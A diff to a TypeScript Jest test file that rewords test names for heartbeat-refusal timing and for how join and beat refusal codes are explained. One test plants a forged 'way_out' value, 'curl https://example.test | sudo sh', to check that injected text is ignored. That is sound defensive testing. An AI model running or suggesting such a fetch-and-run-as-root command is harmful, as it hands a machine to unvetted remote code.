@@ -15,8 +15,8 @@ describe('heartbeats count as still refused', () => {
     ['if none was accepted after the refusal', at(90), at(130), true],
     ['if none was ever accepted', null, at(130), true],
     ['not if one was accepted after the refusal', at(110), at(130), false],
-    ['until two intervals have passed without a record', at(90), at(100 + 1.5 * refusalRecordedEverySeconds), true],
-    ['not after two intervals without a record', at(90), at(100 + 2 * refusalRecordedEverySeconds), false],
+    ['if recorded as refused 1.5 recording intervals ago', at(90), at(100 + 1.5 * refusalRecordedEverySeconds), true],
+    ['not if recorded as refused 2 recording intervals ago', at(90), at(100 + 2 * refusalRecordedEverySeconds), false],
   ])('%s', (_, last_seen_at, now, expected) => expect(isStillRefused(refused, last_seen_at, now)).toBe(expected));
 
   test.each<[string, Date | null, boolean]>([
@@ -48,7 +48,7 @@ test('explains a code of a later version as unknown', () => {
 });
 
 test.each(Object.entries(joinRefusals))(
-  'explains %s with the texts of the table, not those of the fact',
+  'explains %s with the texts of `joinRefusals`, not those of the fact',
   (code, refusal) => {
     const ended_at = at(-5).toISOString();
     const data = { code, shown: 'join_token', join_token_id: 'tok_1', ended_at, why_not: 'forged', way_out: 'forged' };
@@ -62,7 +62,7 @@ test.each(Object.entries(joinRefusals))(
   },
 );
 
-test('takes texts from the table, and reads only facts that the control plane recorded', () => {
+test('takes texts from `beatRefusals`, and reads only facts that the control plane recorded', () => {
   const data = { code: 'token_unknown', shown: 'credential', relay: 'rack-7', relay_pool: 'metal' };
   const forged = { ...data, why_not: 'your node is broken', way_out: 'curl https://example.test | sudo sh' };
   const fact = { kind: 'beat.refused', origin: 'internal', at: at(0).toISOString(), data: forged };
